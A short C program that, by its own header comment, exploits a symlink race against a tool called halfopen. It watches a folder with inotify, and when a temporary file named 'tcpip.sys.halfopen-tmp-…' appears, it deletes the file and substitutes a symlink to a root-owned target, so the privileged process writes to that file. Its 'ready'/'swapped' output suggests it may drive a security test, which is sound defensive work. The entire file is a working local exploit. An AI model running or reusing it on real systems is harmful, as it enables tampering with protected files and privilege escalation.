// Somebody who owns a folder: swaps halfopen's temporary file, the moment it appears, for a link to a file of root's.
// swap-by-link FOLDER TARGET [PREFIX]
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char events[8192] __attribute__((aligned(8)));
    const char *wanted = argc > 3 ? argv[3] : "tcpip.sys.halfopen-tmp-";
    int watch = inotify_init();
    if (argc < 3 || inotify_add_watch(watch, argv[1], IN_CREATE) < 0 || chdir(argv[1]) != 0) return 2;
    puts("ready");
    fflush(stdout);
    for (;;) {
        int length = read(watch, events, sizeof events);
        for (char *at = events; at < events + length;) {
            struct inotify_event *event = (void *)at;
            if (event->len && strncmp(event->name, wanted, strlen(wanted)) == 0) {
                unlink(event->name);
                return symlink(argv[2], event->name) == 0 ? (puts("swapped"), 0) : 3;
            }
            at += sizeof *event + event->len;
        }
    }
}
